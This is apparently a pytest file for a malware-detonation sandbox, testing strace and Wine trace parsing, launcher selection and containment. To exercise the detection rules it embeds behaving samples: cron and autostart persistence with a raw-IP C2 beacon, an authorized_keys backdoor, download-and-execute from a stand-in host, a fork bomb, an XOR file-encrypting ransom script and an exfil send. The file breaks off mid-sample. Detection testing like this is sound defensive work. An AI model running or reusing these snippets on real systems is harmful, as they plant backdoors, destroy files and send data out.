"""The guest's detonation: strace parsing, launcher choice, options, Wine parsing (pure),
and real samples in the real sandbox (``sandbox`` marker: root, bubblewrap, strace, iproute2).

Every sample here is written or compiled by the test itself and is harmless outside
the sandbox too; they *behave* like malware (persistence, C2 connections, downloads,
fork bombs) so the rules have something real to see.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest

from mailvm.guest import launcher as L
from mailvm.guest import monitor as M
from mailvm.guest import wine as W
from mailvm.guest.detonate import EventLog, detonate, parse_options
from mailvm.guest import sandbox as S
from mailvm.guest.sandbox import Limits, sandbox_tools

# ------------------------------------------------------------------ helpers


def _sandbox_missing() -> str | None:
    if os.geteuid() != 0:
        return "needs root"
    _, missing = sandbox_tools()
    if missing:
        return "missing: " + ", ".join(missing)
    return None


SANDBOX_REASON = _sandbox_missing()


def ids(result: dict) -> set[str]:
    return {f["id"] for f in result["findings"]}


def log_text(result: dict) -> str:
    return json.dumps(result["log"])


def procs_with(marker: str) -> list[int]:
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if marker.encode() in fh.read():
                        out.append(int(entry))
            except OSError:
                pass
    return out


@pytest.fixture
def run(tmp_path: Path):
    """``run(content, name, **options)`` -> detonate()'s result (checked JSON-able)."""
    counter = 0

    def _run(content: bytes, name: str, workdir: Path | None = None, **options) -> dict:
        nonlocal counter
        counter += 1
        src = tmp_path / f"in{counter}"
        src.mkdir()
        sample = src / name
        sample.write_bytes(content)
        wd = workdir or tmp_path / f"wd{counter}"
        wd.mkdir(exist_ok=True)
        result = detonate(str(sample), {"name": name, **options}, str(wd))
        json.dumps(result)  # must be JSON-able as it is
        assert result["schema"] == 1
        leftovers = [p for p in os.listdir(wd) if p.startswith("det-")]
        assert leftovers == [], f"detonation files left behind: {leftovers}"
        return result

    return _run


# ------------------------------------------------------------------ strace parsing (pure)


def test_unquote_handles_escapes_octal_hex_and_truncation():
    assert M.unquote(r'"a\nb\t\"c\\"') == 'a\nb\t"c\\'
    assert M.unquote(r'"x\33[0m\0"') == "x\x1b[0m\x00"
    assert M.unquote(r'"\x41\x42"') == "AB"
    assert M.unquote(r'"caf\303\251"...') == "café"
    assert M.unquote(r'"\377"') == "\\xff"  # not UTF-8: kept visible
    assert M.unquote("AT_FDCWD") == "AT_FDCWD"


def test_split_args_respects_strings_structs_comments_and_fd_paths():
    text = 'AT_FDCWD</a,b>, "x,)\\"y", {sa_family=AF_INET, sin_port=htons(80)}, [1, 2] /* 2 vars */, 3</p(q>)'
    args, end = M.split_args(text)
    assert args == ["AT_FDCWD</a,b>", '"x,)\\"y"', "{sa_family=AF_INET, sin_port=htons(80)}",
                    "[1, 2] /* 2 vars */", "3</p(q>"]
    assert end == len(text)


def test_parser_joins_unfinished_and_resumed_lines_per_pid():
    p = M.StraceParser()
    assert p.feed('10 1.5 execve("/bin/sh", ["sh", "-c", "x"], 0x7ff /* 3 vars */ <unfinished ...>') is None
    assert p.feed('11 1.6 exit_group(0)   = ?') is not None
    call = p.feed("10 1.7 <... execve resumed>) = 0")
    assert call and call.name == "execve" and call.pid == 10 and call.ok
    assert M.unquote(call.args[0]) == "/bin/sh"
    assert [M.unquote(a) for a in M.split_list(call.args[1])] == ["sh", "-c", "x"]


def test_parser_reads_errno_fd_path_and_pidns_translation():
    p = M.StraceParser()
    c = p.feed('5 2.0 openat(AT_FDCWD</w>, "x", O_RDONLY) = -1 ENOENT (No such file or directory)')
    assert c.errno == "ENOENT" and not c.ok
    c = p.feed('5 2.1 openat(AT_FDCWD</w>, "y", O_WRONLY|O_CREAT, 0644) = 3</w/y\\76z>')
    assert c.ok and c.ret_path == "/w/y>z"
    c = p.feed("5 2.2 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 777 in strace's PID NS */")
    assert c.ret_pid == 777


def test_parser_drops_oversized_and_garbage_lines():
    p = M.StraceParser(max_line=100)
    assert p.feed("1 1.0 " + "x" * 200) is None and p.dropped_lines == 1
    assert p.feed("not a strace line") is None and p.bad_lines == 1
    assert p.feed('1 1.0 open("unterminated') is not None  # truncated call: parsed as far as it goes


def _events(lines: list[str], cwd: str = "/work") -> list[dict]:
    p = M.StraceParser()
    b = M.EventBuilder("mailvm-sandbox-init", 100.0, cwd=cwd)
    out = []
    for line in lines:
        c = p.feed(line)
        if c:
            out += b.feed(c)
    return out


INIT = ('1 100.0 execve("/usr/bin/python3", ["/usr/bin/python3", "-I", "-S", "-c", "code", '
        '"mailvm-sandbox-init", "/bin/sh", "/work/s.sh"], 0x1 /* 9 vars */) = 0')


def test_events_start_at_the_init_exec_and_exclude_infrastructure():
    lines = [
        '9 99.0 execve("/usr/bin/prlimit", ["prlimit", "--", "mailvm-sandbox-init"], 0x1 /* 1 vars */) = 0',
        '9 99.1 openat(AT_FDCWD</>, "/etc/x", O_WRONLY|O_CREAT, 0644) = 3</etc/x>',
        INIT,
        '1 100.1 openat(AT_FDCWD</work>, "/usr/lib/python3.11/os.py", O_RDONLY) = 3</usr/lib/python3.11/os.py>',
        "1 100.2 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace's PID NS */",
        '12 100.3 execve("/bin/sh", ["/bin/sh", "/work/s.sh"], 0x1 /* 9 vars */) = 0',
        '12 100.4 openat(AT_FDCWD</work>, "out.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</work/out.txt>',
        '12 100.5 rename("out.txt", "/home/user/.bashrc") = 0',
        '12 100.6 connect(3<socket:[1]>, {sa_family=AF_INET, sin_port=htons(4444), '
        'sin_addr=inet_addr("203.0.113.10")}, 16) = -1 EINPROGRESS (Operation now in progress)',
        "12 100.7 +++ exited with 3 +++",
    ]
    evs = _events(lines)
    assert [e["type"] for e in evs] == ["exec", "file", "file", "connect", "exit"]
    assert evs[0]["ppid"] == 1 and evs[0]["argv"] == ["/bin/sh", "/work/s.sh"]
    assert evs[1] == {"type": "file", "op": "write", "path": "/work/out.txt", "create": True, "t": 0.4, "pid": 12}
    assert evs[2]["path"] == "/work/out.txt" and evs[2]["path2"] == "/home/user/.bashrc"
    assert evs[3]["dst"] == "203.0.113.10:4444" and "err" not in evs[3]
    assert evs[4]["code"] == 3


def test_sample_begins_with_the_inits_fork_not_its_exec():
    """The idle clock waits for this: under TCG the init's own start-up takes seconds."""
    p = M.StraceParser()
    b = M.EventBuilder("mailvm-sandbox-init", 100.0, cwd="/work")
    for line in [INIT, '1 100.1 openat(AT_FDCWD</work>, "/usr/lib/python3.11/os.py", O_RDONLY) = 3</x>']:
        b.feed(p.feed(line))
    assert b.started and not b.sample_began and b.alive_sample_pids() == []
    b.feed(p.feed("1 100.2 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace's PID NS */"))
    assert b.sample_began and b.alive_sample_pids() == [12]


def test_events_for_images_sleeps_injection_memfd_and_threads():
    lines = [
        INIT,
        "1 100.1 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace's PID NS */",
        '12 100.2 mmap(NULL, 8192, PROT_READ|PROT_EXEC, MAP_PRIVATE, 3</tmp/evil.so>, 0) = 0x7f00',
        '12 100.3 mmap(NULL, 8192, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f01',
        "12 100.4 clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=600, tv_nsec=0}, NULL) = 0",
        "12 100.5 clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=0, tv_nsec=1000}, NULL) = 0",
        "12 100.6 ptrace(PTRACE_ATTACH, 1 /* 5 in strace's PID NS */) = -1 EPERM (Operation not permitted)",
        '12 100.7 memfd_create("x", MFD_CLOEXEC) = 4</memfd:x (deleted)>',
        "12 100.8 clone3({flags=CLONE_VM|CLONE_THREAD|CLONE_SIGHAND, child_tid=0x1}, 88) = 3 "
        "/* 13 in strace's PID NS */",
        "13 100.9 +++ exited with 0 +++",
        '12 101.0 execve("/proc/self/fd/4", ["x"], 0x1 /* 1 vars */) = 0',
    ]
    evs = _events(lines)
    types = [e["type"] for e in evs]
    assert types == ["image", "mmap_exec", "sleep", "ptrace", "memfd", "exec"]  # no fork/exit for the thread
    assert evs[0]["path"] == "/tmp/evil.so"
    assert evs[2]["seconds"] == 600
    assert evs[3]["target"] == 5 and evs[3]["err"] == "EPERM"
    assert evs[5]["path"] == "/proc/self/fd/4"


def test_strace_monitor_tails_a_growing_file(tmp_path):
    path = tmp_path / "trace"
    path.write_text(INIT + "\n1 100.1 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace's PID NS */\n"
                    '12 100.2 execve("/bin/true", ["true"], 0x1 /* 1 vars */')  # incomplete last line
    mon = M.StraceMonitor(str(path), "mailvm-sandbox-init", 100.0)
    assert mon.poll() == []  # the init's own fork is infrastructure; the exec line is not complete yet
    with open(path, "a") as fh:
        fh.write(") = 0\n12 100.3 +++ exited with 0 +++\n")
    evs = mon.poll()
    assert [e["type"] for e in evs] == ["exec", "exit"] and evs[0]["ppid"] == 1
    assert mon.builder.alive_sample_pids() == []


# ------------------------------------------------------------------ launchers (pure)


def _tools(*present: str):
    paths = {name: f"/usr/bin/{name}" for name in present}
    return lambda name: paths.get(name)


@pytest.mark.parametrize("head,name,expected", [
    (b"\x7fELF\x02\x01\x01", "invoice", "elf"),
    (b"#!/bin/sh\necho", "a.txt", "sh"),
    (b"#!/usr/bin/env python3\n", "a", "python"),
    (b"#!/bin/bash\n", "run.sh", "bash"),
    (b"print(1)\n", "x.py", "python"),
    (b"echo hi\n", "x.sh", "sh"),
    (b"use strict;\n", "x.pl", "perl"),
    (b"MZ\x90\x00", "doc.pdf", "wine_pe"),  # magic beats extension
    (b"%PDF-1.7\n", "x.pdf", "pdf_poppler"),
    (b"<!DOCTYPE html><html>", "x", "html_chromium"),
])
def test_launcher_choice_by_magic_shebang_and_extension(head, name, expected):
    info = L.SampleInfo(L.safe_name(name), head=head)
    launch, _ = L.choose(info, "/work/" + info.name,
                         find=_tools("python3", "perl", "bash", "sh", "wine64", "wineserver", "pdftotext", "chromium"))
    assert launch is not None and launch.launcher == expected


def test_launcher_missing_program_is_reported_and_unknown_types_get_none():
    launch, reason = L.choose(L.SampleInfo("x.exe", head=b"MZ\x90"), "/work/x.exe", find=_tools("sh"))
    assert launch is None and "wine64" in reason
    launch, reason = L.choose(L.SampleInfo("disk.iso", head=b"\0" * 64, kind="disk_image"), "/work/disk.iso",
                              find=_tools("sh"))
    assert launch is None and "no launcher" in reason


def test_launcher_hint_and_argv_are_inside_paths():
    info = L.SampleInfo("x.txt", head=b"echo", hint="bash")
    launch, reason = L.choose(info, "/work/x.txt", find=_tools("bash"))
    assert launch.launcher == "bash" and launch.argv == ("/usr/bin/bash", "/work/x.txt") and "hint" in reason
    wsh, _ = L.choose(L.SampleInfo("a.js", head=b"WScript.Echo(1)"), "/work/a.js", find=_tools("wine64", "wineserver"))
    assert wsh.argv == ("/usr/bin/wine64", "wscript", "Z:\\work\\a.js") and wsh.platform == "windows"


def test_safe_name_keeps_extension_and_drops_paths():
    assert L.safe_name("../../etc/passwd") == "passwd"
    assert L.safe_name("C:\\Users\\x\\Invoice 2024.PDF.exe") == "Invoice_2024.PDF.exe"
    assert L.safe_name("") == "sample" and L.safe_name("...") == "sample"
    long = L.safe_name("a" * 300 + ".docm")
    assert len(long) <= L.MAX_NAME and long.endswith(".docm")


# ------------------------------------------------------------------ options, log (pure)


def test_options_are_validated_with_defaults():
    o = parse_options({"name": "x.sh", "timeout_s": "60", "idle_s": -1, "stop_on_malicious": "no",
                       "max_log_events": True, "kind": "weird", "launcher": 5})
    assert (o.name, o.timeout_s, o.idle_s, o.stop_on_malicious, o.max_log_events, o.kind, o.launcher) == (
        "x.sh", 60.0, 3.0, True, 2000, "unknown", "")
    o = parse_options({"timeout_s": 5, "idle_s": 0.5, "stop_on_malicious": False, "max_log_events": 50,
                       "kind": "script"})
    assert (o.timeout_s, o.idle_s, o.stop_on_malicious, o.max_log_events, o.kind) == (5.0, 0.5, False, 50, "script")
    assert parse_options(None) == parse_options([]) == parse_options({})
    assert parse_options({"timeout_s": float("nan")}).timeout_s == 60.0


def test_event_log_caps_total_and_per_type_and_counts_drops():
    lg = EventLog(10)
    for i in range(20):
        lg.add({"t": i, "type": "fork", "child": i}, [])
    lg.add({"t": 1, "type": "file", "op": "read", "path": "/usr/lib/x.so"}, [])  # noise
    lg.add_output({"t": 30, "type": "output", "stream": "stdout", "text": "hi"})
    out = lg.finish()
    # 7 forks, the output (reserved slots), the truncation marker: never more than the cap
    assert len(out) == 9 and out[-1]["type"] == "log_truncated" and out[-1]["dropped"] == 13
    assert out[0]["type"] == "output"  # no proof of execution yet: everything else is start-up, listed last
    lg = EventLog(2000)
    for i in range(400):
        lg.add({"t": i, "type": "fork", "child": i}, [])
    lg.add({"t": 500, "type": "exec", "path": "/bin/sh"}, ["shell_spawned"])
    out = lg.finish()
    assert sum(e["type"] == "fork" for e in out) == 300 and out[0]["rules"] == ["shell_spawned"]


def test_event_log_keeps_the_samples_events_ahead_of_start_up_noise():
    """Wine's start-up fills the log before the sample runs; the sample's own events still get in, first."""
    lg = EventLog(50)
    lg.add_meta({"t": 0.0, "type": "sandbox"})
    for i in range(100):  # start-up: more than the log holds
        lg.add({"t": i / 100, "type": "file", "op": "write", "path": f"/home/user/.wine/x{i}"}, [])
    lg.proof_t = 1.5  # the sample's entry thread started
    for i in range(20):
        lg.add({"t": 2 + i, "type": "file", "op": "write", "path": f"/home/user/own{i}"}, [])
    lg.add({"t": 30, "type": "reg_set", "key": "HKCU\\Run"}, ["persistence_registry_run"])
    out = lg.finish()
    assert len(out) <= 50 and out[0]["type"] == "sandbox" and out[1]["rules"] == ["persistence_registry_run"]
    own = [e["path"] for e in out[2:22]]
    assert own == [f"/home/user/own{i}" for i in range(20)]  # all of the sample's, in time order
    startup = [e for e in out if ".wine" in str(e.get("path"))]
    assert startup and out.index(startup[0]) > 21 and out[-1]["type"] == "log_truncated"
    # the host keeps the first entries: the sample's events and the finding's evidence are among them
    assert all(".wine" not in str(e.get("path")) for e in out[:22])


def test_detonate_never_raises_on_a_missing_sample(tmp_path):
    r = detonate(str(tmp_path / "nope"), {"name": "x.sh"}, str(tmp_path))
    assert r["verdict"] == "error" and ids(r) == {"agent_error", "not_executed"} and r["stopped"] == "error"
    assert r["executed"] is False and r["execution"]["reason"].startswith("launcher error")


def test_no_launcher_is_immediate_and_says_the_file_did_not_run(tmp_path):
    sample = tmp_path / "disk.iso"
    sample.write_bytes(b"\0" * 32768 + b"CD001")
    r = detonate(str(sample), {"name": "disk.iso", "kind": "disk_image"}, str(tmp_path))
    # the guest's own score stays 0; the host marks it as not detonated (source triage, policy not_executed)
    assert r["verdict"] == "clean" and ids(r) == {"no_launcher", "not_executed"} and r["launcher"] == ""
    assert r["executed"] is False and r["execution"]["reason"].startswith("no launcher for kind disk_image")
    assert r["stopped"] == "exited_idle" and r["log"] == []


# ------------------------------------------------------------------ Wine parsing (pure)


def test_wine_trace_parser_resolves_key_handles_and_reads_network_and_processes():
    lines = [
        "0024:trace:reg:create_special_root_hkey HKEY_CURRENT_USER -> 0000000000000028",
        '0024:trace:reg:NtOpenKeyEx (0x28,L"Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",2,0x21fd38)',
        "0024:trace:reg:NtOpenKeyEx <- 0x30",
        '0024:trace:reg:NtSetValueKey (0x30,L"updater",1,0x349710,56)',
        "0024:trace:winsock:connect socket 0x30, addr { family AF_INET, address 203.0.113.10, port 4444 }, len 16",
        '0024:trace:winsock:getaddrinfo node "c2.example", service (null), hints 000000000021F390',
        '0024:trace:process:NtCreateUserProcess L"\\\\??\\\\C:\\\\windows\\\\system32\\\\cmd.exe" image '
        'L"C:\\\\windows\\\\system32\\\\cmd.exe" cmdline L"cmd /c whoami" parent (nil)',
        '00e4:trace:loaddll:build_module Loaded L"Z:\\\\work\\\\evil.dll" at 0000000180000000: native',
        "garbage line",
    ]
    p = W.WineTraceParser()
    evs = [e for line in lines for e in p.feed(line)]
    assert evs[0] == {"type": "reg_set", "src": "wine_trace",
                      "key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "value": "updater"}
    assert evs[1]["dst"] == "203.0.113.10:4444"
    assert evs[2]["name"] == "c2.example"
    assert evs[3]["path"] == "C:\\windows\\system32\\cmd.exe" and evs[3]["argv"] == ["cmd /c whoami"]
    assert evs[4]["native"] is True and evs[4]["path"] == "Z:\\work\\evil.dll"


def test_registry_diff_of_wine_hives(tmp_path):
    before = tmp_path / "before.reg"
    after = tmp_path / "after.reg"
    head = "WINE REGISTRY Version 2\n;; All keys relative to \\\\User\\\\S-1-5-21-0-0-0-1000\n\n"
    before.write_text(head + '[Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run] 1700000000\n'
                      '#time=1d\n"Old"="C:\\\\old.exe"\n\n[Control Panel\\\\Desktop] 1\n"Wallpaper"=""\n')
    after.write_text(head + '[Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run] 1700000009\n'
                     '#time=1e\n"Updater"="C:\\\\users\\\\user\\\\AppData\\\\u.exe"\n\n'
                     '[Control Panel\\\\Desktop] 1\n"Wallpaper"=""\n')
    diff = W.diff_registry(W.parse_reg(str(before), "HKCU"), W.parse_reg(str(after), "HKCU"))
    assert {"type": "reg_set", "src": "reg_diff", "key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "value": "Updater", "data": "C:\\users\\user\\AppData\\u.exe"} in diff
    assert any(e["type"] == "reg_delete" and e["value"] == "Old" for e in diff)
    assert len(diff) == 2


# ------------------------------------------------------------------ real samples in the sandbox


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
@pytest.mark.parametrize("persist", ["autostart", "crontab"])
def test_persistence_and_raw_ip_c2_is_malicious(run, persist):
    install = {
        "autostart": 'mkdir -p "$HOME/.config/autostart"\n'
                     'printf "[Desktop Entry]\\nExec=/tmp/.u\\n" > "$HOME/.config/autostart/x.desktop"\n',
        "crontab": 'echo "* * * * * /tmp/.u" > /tmp/c; crontab /tmp/c 2>/dev/null\n',
    }[persist]
    script = ("#!/bin/sh\n" + install
              + "python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 4444), 3); "
                "s.sendall(b\"HELO bot\"); s.close()'\n").encode()
    r = run(script, "update.sh", stop_on_malicious=False)  # persistence + C2 is conclusive: see the whole run
    assert r["verdict"] == "malicious", r["findings"]
    assert {"persistence_" + ("autostart" if persist == "autostart" else "cron"), "network_raw_ip"} <= ids(r)
    text = log_text(r)
    assert "203.0.113.10:4444" in text
    assert '"HELO bot"' in text  # fakenet logged the first bytes of the connection
    assert r["launcher"] == "sh" and r["stopped"] == "exited_idle"


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_guest_conditions_slow_start_up_and_no_iptables_give_the_same_verdict(run, monkeypatch):
    """What a TCG guest with a minimal kernel does to the sandbox, reproduced on the host: the
    sandbox's own start-up takes longer than ``idle_s`` (an init that sleeps before starting
    the sample) and iptables cannot redirect (fakenet falls back to listeners on common ports).
    The sample must still be seen in full, and the sandbox event must say what was degraded."""
    monkeypatch.setattr(S, "INIT_CODE", "import time; time.sleep(1.5)\n" + S.INIT_CODE)
    monkeypatch.setattr(S, "OPTIONAL_TOOLS", ())  # no iptables-restore
    script = (b'#!/bin/sh\nmkdir -p "$HOME/.config/autostart"\n'
              b'printf "[Desktop Entry]\\nExec=/tmp/.u\\n" > "$HOME/.config/autostart/x.desktop"\n'
              b"python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 4444), 3); "
              b"s.sendall(b\"HELO bot\"); s.close()'\n")
    r = run(script, "update.sh", idle_s=0.5, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"persistence_autostart", "network_raw_ip"} <= ids(r)
    assert '"HELO bot"' in log_text(r)  # the fallback listener on 4444 got the connection
    assert r["stopped"] == "exited_idle"
    box = next(e for e in r["log"] if e["type"] == "sandbox")
    assert box["network"] == "iptables-restore not installed"
    assert [d for d in box["degraded"] if d.startswith("network: iptables-restore not installed")], box


def test_cgroups_missing_names_the_limits_no_group_enforces(tmp_path, monkeypatch):
    monkeypatch.setattr(S.Cgroups, "_own", staticmethod(lambda controller: "/"))
    v2 = tmp_path / "v2"
    v2.mkdir()
    (v2 / "cgroup.controllers").write_text("cpu memory pids\n")
    (v2 / "cgroup.subtree_control").write_text("")
    monkeypatch.setattr(S.Cgroups, "ROOT", str(v2))
    cg = S.Cgroups("mailvm-t", Limits())
    assert cg.create() == [str(v2 / "mailvm-t" / "cgroup.procs")]
    assert (v2 / "mailvm-t" / "pids.max").read_text() == "512"
    assert cg.missing() == ["pids", "memory"]  # the group offers no controller (yet)
    (v2 / "mailvm-t" / "cgroup.controllers").write_text("pids\n")
    assert cg.missing() == ["memory"]
    (v2 / "mailvm-t" / "cgroup.controllers").write_text("memory pids\n")
    assert cg.missing() == []
    v1 = tmp_path / "v1"
    (v1 / "pids").mkdir(parents=True)  # no memory hierarchy mounted
    monkeypatch.setattr(S.Cgroups, "ROOT", str(v1))
    cg = S.Cgroups("mailvm-t", Limits())
    assert cg.create() == [str(v1 / "pids" / "mailvm-t" / "cgroup.procs")]
    assert cg.missing() == ["memory"]
    monkeypatch.setattr(S.Cgroups, "ROOT", str(tmp_path / "none"))
    cg = S.Cgroups("mailvm-t", Limits())
    assert cg.create() == [] and cg.missing() == ["pids", "memory"]


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc not installed")
def test_c_program_spawning_a_shell_and_writing_authorized_keys(run, tmp_path):
    src = tmp_path / "b.c"
    src.write_text(r"""
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/wait.h>
int main(void) {
    pid_t p = fork();
    if (p == 0) { execl("/bin/sh", "sh", "-c", "id", (char *)0); _exit(127); }
    waitpid(p, 0, 0);
    char path[512];
    snprintf(path, sizeof path, "%s/.ssh/authorized_keys", getenv("HOME"));
    FILE *f = fopen(path, "a");
    if (f) { fputs("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker@evil\n", f); fclose(f); }
    return 0;
}
""")
    binary = tmp_path / "b"
    subprocess.run(["gcc", "-O1", "-o", str(binary), str(src)], check=True)
    r = run(binary.read_bytes(), "invoice")
    assert r["launcher"] == "elf"
    assert r["verdict"] == "malicious", r["findings"]
    assert {"ssh_authorized_keys", "shell_spawned"} <= ids(r)
    assert "/home/user/.ssh/authorized_keys" in log_text(r)


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_download_and_execute_through_the_simulated_internet(run):
    script = b"""import os, subprocess, urllib.request
data = urllib.request.urlopen("http://updates.example.test/payload", timeout=5).read()
with open("/tmp/.upd", "wb") as fh:
    fh.write(data)
os.chmod("/tmp/.upd", 0o755)
subprocess.run(["/tmp/.upd"])
"""
    r = run(script, "setup.py")
    assert r["verdict"] == "malicious" and r["stopped"] == "malicious", r["findings"]
    assert {"download_execute", "http_request", "dns_query", "network_resolved_host"} <= ids(r)
    assert "http://updates.example.test/payload" in log_text(r)
    assert any(e["type"] == "dns" and e["name"] == "updates.example.test" for e in r["log"])
    http = next(e for e in r["log"] if e["type"] == "http")
    assert http["ua"].startswith("Python-urllib") and http["served"] == "payload"


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_benign_script_is_clean_and_fast(run):
    # a work directory others can traverse: the sandbox's HOME and /work live inside it
    wd = Path("/tmp") / f"mailvm-test-{uuid.uuid4().hex[:8]}"
    wd.mkdir(mode=0o755)
    try:
        t = time.monotonic()
        r = run(b"#!/bin/sh\necho hello from a benign script\nls /work > /dev/null\n", "hello.sh", workdir=wd)
        elapsed = time.monotonic() - t
    finally:
        shutil.rmtree(wd, ignore_errors=True)
    assert r["verdict"] == "clean" and r["score"] < 4, r["findings"]
    assert r["stopped"] == "exited_idle"
    assert elapsed < 10, elapsed
    assert any(e["type"] == "output" and "hello from a benign script" in e["text"] for e in r["log"])
    assert r["events"]["exec"] >= 2


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_sleeping_sample_times_out_and_nothing_survives(run):
    marker = "mvtest-" + uuid.uuid4().hex
    script = (f"#!/bin/sh\nnohup sh -c 'while :; do sleep 1; done' {marker}-daemon >/dev/null 2>&1 &\n"
              f"exec python3 -c 'import time; time.sleep(100000)' {marker}-main\n").encode()
    t = time.monotonic()
    r = run(script, "sleeper.sh", timeout_s=5)
    assert time.monotonic() - t < 15
    assert "timed_out" in ids(r) and r["stopped"] == "timeout"
    assert r["verdict"] == "clean"
    assert procs_with(marker) == []


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_fork_bomb_is_contained(run):
    marker = "mvbomb" + uuid.uuid4().hex[:12]
    before = len([p for p in os.listdir("/proc") if p.isdigit()])
    r = run(b"#!/bin/sh\nf() { f | f & }\nf\nwait\n", f"{marker}.sh", timeout_s=6)
    assert r["stopped"] in ("timeout", "exited_idle")
    assert "resource_exhaustion" in ids(r) and r["verdict"] == "malicious"
    # the host is unaffected: our own fork works and the bomb's processes are gone
    assert subprocess.run(["true"]).returncode == 0
    assert procs_with(marker) == []
    after = len([p for p in os.listdir("/proc") if p.isdigit()])
    assert after < before + 20
    assert Limits().nproc == 512


def _host_address() -> str | None:
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True)
    for line in out.stdout.splitlines():
        parts = line.split()
        if "inet" in parts:
            return parts[parts.index("inet") + 1].split("/")[0]
    return None


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_no_sample_reaches_the_real_network(run):
    addr = _host_address()
    if addr is None:
        pytest.skip("this machine has no non-loopback IPv4 address to listen on")
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, 0))
    srv.listen(5)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    seen: list = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, peer = srv.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            seen.append(peer)
            conn.close()

    th = threading.Thread(target=accept, daemon=True)
    th.start()
    try:
        script = (f"import socket\ns = socket.create_connection(('{addr}', {port}), timeout=3)\n"
                  "s.sendall(b'exfil'); s.close()\n").encode()
        r = run(script, "leak.py")
    finally:
        stop.set()
        th.join(2)
        srv.close()
    assert seen == [], "a sample reached the host's real network"
    dst = f"{addr}:{port}"
    assert any(e["type"] == "tcp" and e.get("src") == "fakenet" and e["dst"] == dst for e in r["log"]), r["log"]
    assert "network_raw_ip" in ids(r)


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_ransomware_pattern_on_decoy_documents(run):
    script = b"""import os
docs = os.path.expanduser("~/Documents")
for name in os.listdir(docs):
    p = os.path.join(docs, name)
    data = open(p, "rb").read()
    open(p + ".locked", "wb").write(bytes(b ^ 0x5A for b in data))
    os.unlink(p)
open(os.path.join(docs, "HOW_TO_DECRYPT.txt"), "w").write("pay")
"""
    r = run(script, "crypt.py")
    assert "mass_file_modification" in ids(r) and r["verdict"] == "malicious", r["findings"]


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_should_stop_aborts_and_log_cap_holds(run, tmp_path):
    sample = tmp_path / "busy.sh"
    sample.write_bytes(b"#!/bin/sh\nwhile :; do ls /work >/dev/null; done\n")
    calls = {"n": 0, "t": time.monotonic()}

    def should_stop() -> bool:
        calls["n"] += 1
        return time.monotonic() - calls["t"] > 1.5

    wd = tmp_path / "wd"
    wd.mkdir()
    t = time.monotonic()
    r = detonate(str(sample), {"name": "busy.sh", "max_log_events": 20}, str(wd), should_stop)
    assert time.monotonic() - t < 8
    assert r["stopped"] == "error" and "detonation_aborted" in ids(r) and r["verdict"] == "error"
    assert len(r["log"]) <= 20 and r["log"][-1]["type"] == "log_truncated"
    assert calls["n"] > 5


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_unrunnable_elf_is_a_launch_failure(run):
    r = run(b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\xb7\x00" + b"\0" * 100, "arm-binary")
    assert "launch_failed" in ids(r) and r["verdict"] == "clean"


# ------------------------------------------------------------------ Wine


def _wine_reason() -> str | None:
    if SANDBOX_REASON:
        return SANDBOX_REASON
    if not (L.find_tool("wine64") or L.find_tool("wine")):
        return "wine64 not installed (apt-get install wine64)"
    if shutil.which("x86_64-w64-mingw32-gcc") is None:
        return "mingw-w64 not installed (apt-get install gcc-mingw-w64-x86-64)"
    return None


PE_SOURCE = r"""
#include <winsock2.h>
#include <windows.h>
#include <string.h>
int main(void) {
    HKEY k;
